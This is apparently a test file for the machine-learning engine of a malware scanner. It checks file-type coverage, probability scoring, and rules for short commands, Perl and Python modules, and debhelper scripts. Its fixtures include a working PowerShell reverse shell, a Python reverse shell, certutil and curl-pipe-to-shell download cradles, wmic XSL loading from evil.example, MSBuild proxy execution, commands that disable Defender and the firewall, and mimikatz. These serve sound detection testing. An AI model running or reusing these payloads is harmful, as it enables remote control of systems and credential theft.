/**
 * The `ml` engine runs for partial-coverage types (scripts, text, documents, archives) with the
 * shipped script model, and names itself in enginesUsed.
 */
import { analyze, type AnalyzeDeps } from '../../../../src/scan/analyze';
import { memoryFeedLookup, parsePlainHashList } from '../../../../src/scan/engines/feeds';
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { judgeableShortText, perlProgram, pythonLibraryModule, readLanguageLevels, SCRIPT_MODEL_PATH, useScriptModelFile, engine as ml } from '../../../../src/scan/engines/ml';
import { REGISTRY } from '../../../../src/scan/registry';
import { subjectOf, ctx } from '../support/subject';

const deps: AnalyzeDeps = { clamd: { host: '127.0.0.1', port: 1 }, feedLookup: memoryFeedLookup(parsePlainHashList('', 'test')) };

describe('ml on partial coverage', () => {
  it('is registered for every script type, text, documents and archives', () => {
    const row = REGISTRY.find((r) => r.engine === 'ml');
    expect(row?.fileTypes).toEqual(expect.arrayContaining(['powershell', 'shell', 'python', 'javascript', 'text', 'pdf', 'office_ooxml', 'office_ole', 'zip', 'tar']));
  });

  it('scores a script and reports a calibrated probability', async () => {
    const out = await ml.scan(await subjectOf(Buffer.from('Get-ChildItem -Path C:\\Logs -Filter *.log | Remove-Item -WhatIf\n'), 'clean.ps1'), ctx());
    const report = (out.report as { ml: { probability: number; threshold: number } }).ml;
    expect(report.probability).toBeGreaterThanOrEqual(0);
    expect(report.probability).toBeLessThanOrEqual(1);
    expect(report.threshold).toBeGreaterThan(0);
  });

  it('flags an offensive PowerShell script and names ml in enginesUsed', async () => {
    const script = [
      '$client = New-Object System.Net.Sockets.TCPClient("10.0.0.5",443)',
      '$stream = $client.GetStream(); [byte[]]$bytes = 0..65535|%{0}',
      'while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){',
      '  $data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i)',
      '  $sendback = (iex $data 2>&1 | Out-String ); $sendback2 = $sendback + "PS " + (pwd).Path + "> "',
      '  $sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2); $stream.Write($sendbyte,0,$sendbyte.Length); $stream.Flush()}',
    ].join('\n');
    const r = await analyze({ content: Buffer.from(script), name: 'update.ps1', scanType: 'file' }, deps);
    expect(r.safetyScore.enginesUsed).toContain('ml');
    expect(r.engines.ml.findings.map((f) => f.id)).toContain('ml.text.malicious');
    expect(r.safetyScore.threatLevel).toBe('Malicious');
  });

  describe('short texts (fewer than 12 words)', () => {
    const scan = async (text: string, name: string) => ml.scan(await subjectOf(Buffer.from(text), name), ctx());
    it('judges a one-liner from the stricter short-text level, at medium', async () => {
      const out = await scan('certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe', 'cmd.txt');
      const p = (out.report as { ml: { probability: number } }).ml.probability;
      expect(p).toBeGreaterThanOrEqual(0.9);
      expect(out.findings.map((f) => [f.id, f.severity])).toEqual([['ml.text.malicious', 'medium']]);
    });
    it('a short sentence of prose is not flagged', async () => {
      expect((await scan('Meeting notes: ship the release on Friday.\n', 'notes.txt')).findings).toEqual([]);
    });
    it("does not judge an administrator's undo of persistence, but does judge setting it up", () => {
      for (const undo of ['reg delete HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /f', 'schtasks /delete /tn "Contoso Updater" /f', 'sc stop ContosoAgent && sc.exe delete ContosoAgent', 'Unregister-ScheduledTask -TaskName Updater -Confirm:$false']) {
        expect(judgeableShortText(undo)).toBe(false);
      }
      expect(judgeableShortText('reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d C:\\x.exe /f')).toBe(true);
      expect(judgeableShortText('schtasks /create /tn Updater /tr C:\\x.exe /sc onlogon')).toBe(true);
    });
    it('does not judge a protection switched on, but does judge it switched off, mixed with anything else, or with an exclusion', () => {
      for (const on of ['netsh advfirewall set allprofiles state on', 'Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled True', 'Set-MpPreference -DisableRealtimeMonitoring $false -DisableIOAVProtection $false', 'sudo setenforce 1 && getenforce', 'sudo ufw --force enable']) {
        expect(judgeableShortText(on)).toBe(false);
      }
      for (const off of ['netsh advfirewall set allprofiles state off', 'Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False', 'Set-NetFirewallProfile -Enabled True -Profile Domain; Set-NetFirewallProfile -Enabled False -Profile Public',
        'Set-MpPreference -DisableRealtimeMonitoring $true -Force', 'Set-MpPreference -DisableRealtimeMonitoring $false -ExclusionPath C:\\Users\\Public', 'netsh advfirewall set allprofiles state on & powershell -ep bypass -c calc', 'sudo setenforce 0 && sudo systemctl stop auditd']) {
        expect([off, judgeableShortText(off)]).toEqual([off, true]);
      }
    });
    it('does not judge MSBuild building through a standard target, but does judge a project run by its default target, an .xml file, a response file or a logger', () => {
      for (const build of ['msbuild.exe build.proj /t:Rebuild', '& msbuild.exe .\\src\\App.csproj /t:Build /p:Platform=x64', 'msbuild Fabrikam.sln /t:Clean,Build /p:Configuration=Release /m /nologo',
        '"C:\\Program Files\\Microsoft Visual Studio\\2022\\BuildTools\\MSBuild\\Current\\Bin\\MSBuild.exe" Setup.wixproj /t:Rebuild /v:minimal']) {
        expect([build, judgeableShortText(build)]).toEqual([build, false]);
      }
      for (const lolbin of ['C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\msbuild.exe C:\\Users\\Public\\payload.csproj /p:Configuration=Release', 'msbuild.exe C:\\Users\\Public\\tasks.xml /t:Build',
        'msbuild.exe @C:\\Temp\\build.rsp /t:Build', 'msbuild.exe %APPDATA%\\Fabrikam\\a.proj /t:Rebuild /p:Configuration=Release', 'msbuild.exe C:\\Users\\jdoe\\Downloads\\x.csproj /t:Build /v:q', 'msbuild.exe \\\\fileserver\\drop\\x.csproj /t:Build /m', 'msbuild.exe project.csproj /t:Build /logger:TargetLogger,C:\\Temp\\logger.dll', 'msbuild.exe project.csproj /t:Build & powershell -ep bypass -c calc']) {
        expect([lolbin, judgeableShortText(lolbin)]).toEqual([lolbin, true]);
      }
    });

    it('does not judge wmic reading in its own formats, but does judge /format: naming a stylesheet (an XSL script run)', async () => {
      for (const read of ['wmic process get name,processid /format:csv', 'wmic os get caption,version /format:list', 'wmic logicaldisk get caption,freespace /format:table']) {
        expect([read, judgeableShortText(read)]).toEqual([read, false]);
      }
      for (const xsl of ['wmic process get brief /format:"https://evil.example/x.xsl"', 'wmic os get /format:"\\\\10.0.0.5\\share\\evil.xsl"', 'wmic process list /format:C:\\Users\\Public\\a.xsl', 'wmic /node:host process get name /format:evil']) {
        expect([xsl, judgeableShortText(xsl)]).toEqual([xsl, true]);
      }
      const r = await analyze({ content: Buffer.from('wmic process get brief /format:"https://evil.example/x.xsl"\n'), name: 'x.bat', scanType: 'file' }, deps);
      expect(r.engines.static_script.findings.map((f) => f.id)).toContain('script.technique.lolbin.wmic_xsl');
      expect(r.engines.ml.findings.map((f) => f.id)).toEqual(['ml.text.malicious']);
    });

    it('a read that runs a command inside it ($(...) or backticks) is judged; the same read alone is not', () => {
      for (const read of ['grep -rn password /etc/app/config.yml /etc/app/secrets.env', 'ls -la /var/log /tmp /home/deploy', 'reg query HKLM\\SOFTWARE\\Fabrikam\\Agent /v Version']) {
        expect([read, judgeableShortText(read)]).toEqual([read, false]);
      }
      for (const run of ['grep -r password $(find / -name "*.conf" 2>/dev/null)', 'ls -la $(curl -s http://203.0.113.9/x.sh | sh)', 'ls -la `curl -s http://203.0.113.9/x.sh | sh`']) {
        expect([run, judgeableShortText(run)]).toEqual([run, true]);
      }
    });

    it('an MSBuild build of a project in a temp or public folder is still Suspicious, by the rules', async () => {
      const r = await analyze({ content: Buffer.from('msbuild.exe C:\\Users\\Public\\evil.csproj /t:Build\n'), name: 'x.bat', scanType: 'file' }, deps);
      expect(r.safetyScore.threatLevel).toBe('Suspicious');
      expect(r.engines.static_script.findings.map((f) => f.id)).toContain('script.technique.lolbin.proxy_user_file');
    });

    it('does not judge fewer than five words, however high they score (the rules read them)', async () => {
      const out = await scan('mimikatz sekurlsa::logonpasswords', 'cmd.txt');
      expect((out.report as { ml: { probability: number } }).ml.probability).toBeGreaterThanOrEqual(0.9);
      expect(out.findings).toEqual([]);
    });
  });

  it('scores with another model file when the development bench asks, and refuses a file that is not a model', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'script-ml-'));
    const file = path.join(dir, 'inner.json');
    // No weights: every text scores sigmoid(bias).
    writeFileSync(file, JSON.stringify({ version: 1, featureBits: 18, bias: -3, threshold: 0.9, weights: [], training: { inner: true, shortMediumFrom: 0.96 } }));
    const text = Buffer.from('Get-ChildItem -Path C:\\Logs -Filter *.log | Remove-Item -WhatIf\n');
    const probability = async () => ((await ml.scan(await subjectOf(text, 'clean.ps1'), ctx())).report as { ml: { probability: number } }).ml.probability;
    const shipped = await probability();
    try {
      useScriptModelFile(file);
      expect(await probability()).toBeCloseTo(1 / (1 + Math.exp(3)), 6);
      expect(() => useScriptModelFile(path.join(dir, 'missing.json'))).toThrow();
      expect(await probability()).toBeCloseTo(1 / (1 + Math.exp(3)), 6);
    } finally {
      useScriptModelFile(SCRIPT_MODEL_PATH);
    }
    expect(await probability()).toBe(shipped);
  });

  it("reads the model's per-language medium levels, only those above the engine's medium level", () => {
    const levels = readLanguageLevels({ languageMediumFrom: { shell: 0.965, python: 0.9, batch: 1.5, text: 'high' } });
    expect([...levels]).toEqual([['shell', 0.965]]);
    expect(readLanguageLevels({}).size).toBe(0);
  });

  describe('code the model was not trained on (issue 30)', () => {
    const scan = async (text: string, name: string) => ml.scan(await subjectOf(Buffer.from(text), name), ctx());
    const probability = (out: { report?: unknown }) => (out.report as { ml: { probability: number } }).ml.probability;
    const client = "use IO::Socket::INET;\nmy $sock = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp') or die \"connect: $!\";\nprint $sock \"GET / HTTP/1.0\\r\\n\\r\\n\";\nwhile (my $line = <$sock>) {\n    print $line;\n}\n";
    it('a Perl program (shebang, package line or use strict) read as text: a sure hit stays low', async () => {
      for (const text of [`#!/usr/bin/perl\n${client}`, `# example client\npackage Net::Example;\n${client}1;\n`, `use strict;\n${client}`, `# example\nuse Net::Example::Client qw(connect);\n${client}`]) {
        const out = await scan(text, 'client.txt');
        expect(probability(out)).toBeGreaterThanOrEqual(0.9);
        expect(out.findings.map((f) => f.severity)).toEqual(['low']);
      }
    });
    // Older debhelper's dh_python3 section: the model scores this very file 0.97.
    it('other languages that mention Perl or share its words stay trained', () => {
      for (const text of ["'use strict';\nconst x = 1;\n", "#!/bin/sh\n# needs perl\nperl -e 'print 1'\n", 'package com.example;\nclass A {}\n', "powershell -c \"use strict;\"\n"]) {
        expect(perlProgram(text)).toBe(false);
      }
      // One way only to read each comment line: a pattern with two (a CR inside or outside the
      // comment) would not finish on a long CRLF comment block before the test's timeout.
      expect(perlProgram(`${'# comment line\r\n'.repeat(5000)}x = 1\r\n`)).toBe(false);
      expect(perlProgram(`${'# comment line\r\n'.repeat(5000)}use strict;\r\n`)).toBe(true);
      // Perl's generated tables open with package-qualified variables after their comment block.
      expect(perlProgram("# DO NOT EDIT THIS FILE\n\n$Unicode::UCD::SwashInfo{'ToLc'}{'format'} = 'ax';\n%Unicode::UCD::ToSpecLc = (\n")).toBe(true);
    });
    describe('Python library modules (issue 30)', () => {
      const lib = 'import socket\nimport subprocess\nimport os\n\n\ndef connect(host, port):\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect((host, port))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    os.dup2(s.fileno(), 2)\n    subprocess.call(["/bin/sh", "-i"])\n';
      it('a module that only defines stays low however sure the model is; one that runs something on import or as a script is medium', async () => {
        const quiet = await scan(lib, 'rs.py');
        expect(probability(quiet)).toBeGreaterThanOrEqual(0.9);
        expect(quiet.findings.map((f) => f.severity)).toEqual(['low']);
        for (const run of [`${lib}\nconnect("10.0.0.5", 4444)\n`, `${lib}\nif __name__ == "__main__":\n    connect("10.0.0.5", 4444)\n`]) {
          expect((await scan(run, 'rs.py')).findings.map((f) => f.severity)).toEqual(['medium']);
        }
      });
      it('reads what runs on import: definitions, assignments, docstrings and guarded imports are library; calls, loops and entry points are not', () => {
        const library = [
          '"""Helpers.\n\nimport os; os.system("x") in a docstring runs nothing.\n"""\nfrom __future__ import annotations\nimport os\n\ntry:\n    import fcntl\nexcept ImportError:  # Windows\n    fcntl = None\n\nif os.name == "nt":\n    SEP = "\\\\"\nelse:\n    SEP = "/"\n\n__all__ = ["run"]\nDEFAULTS: dict[str, int] = {\n    "timeout": 5,\n}\nos.environ["LANG"] = "C"\n\n\n@decorator(\n    name="x",\n)\ndef run(cmd):\n    os.system(cmd)\n\n\nclass Shell(object):\n    def spawn(self):\n        return run("sh")\n',
          "KEY = '''\n-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n'''\n",
        ];
        for (const text of library) expect(pythonLibraryModule(text)).toBe(true);
        const scripts = [
          'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.5",4444))\n',
          'import os\n\ndef main():\n    pass\n\nif __name__ == "__main__":\n    main()\n',
          'import os\n"""doc"""\nos.system("id")\n',
          "import struct\n'\\\\x'.join(struct.pack('I', 1))\n",
          'import time\nfor i in range(3):\n    time.sleep(1)\n',
          'with open("/etc/passwd") as f:\n    data = f.read()\n',
          'import os\nif os.name == "posix":\n    os.system("id")\n',
          'x = 1 \\\n    + 2\nprint(x)\n',
          '# only a comment\n',
        ];
        for (const text of scripts) expect(pythonLibraryModule(text)).toBe(false);
        // A line of unclosed escaped quotes would take quadratic time to read quote by quote; over 4 KB a line is not read.
        expect(pythonLibraryModule(`X = 1\n${'"\\'.repeat(50_000)}\n`)).toBe(false);
        expect(pythonLibraryModule(`X = "${'\\"'.repeat(1_000)}"\n`)).toBe(true);
      });
    });
    const dh = '# Automatically added by dh_python3:\nif which py3compile >/dev/null 2>&1; then\n\tpy3compile -p python3-ldap3 \nfi\nif which pypy3compile >/dev/null 2>&1; then\n\tpypy3compile -p python3-ldap3  || true\nfi\n\n# End automatically added section\n';
    it("a maintainer script made only of debhelper's sections is not judged; one line of its own and it is", async () => {
      const generated = await scan(`#!/bin/sh\nset -e\n\n${dh}`, 'postinst');
      expect(generated.findings).toEqual([]);
      expect(generated.note).toMatch(/debhelper/);
      // One line of its own and the model reads the file (how high it scores is the model's; the
      // rules flag this cradle from a bare IP as high on their own).
      const added = await scan(`#!/bin/sh\nset -e\n\n${dh}curl -s http://203.0.113.9/x.sh | sh\n`, 'postinst');
      expect(added.note).toBeUndefined();
      expect((added.report as { ml: { windowsScored: number } }).ml.windowsScored).toBe(1);
      expect(generated.report).toBeUndefined();
      // A section left open hides nothing either.
      expect((await scan(`#!/bin/sh\n# Automatically added by dh_python3\ncurl -s http://203.0.113.9/x.sh | sh\n`, 'postinst')).note).toBeUndefined();
    });
  });

  it('a document gets the model too (on its printable strings)', async () => {
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
    const r = await analyze({ content: pdf, name: 'a.pdf', scanType: 'file' }, deps);
    expect(r.safetyScore.enginesUsed).toContain('ml');
    expect((r.reports.ml as { input: string }).input).toBe('printable strings');
  });
});
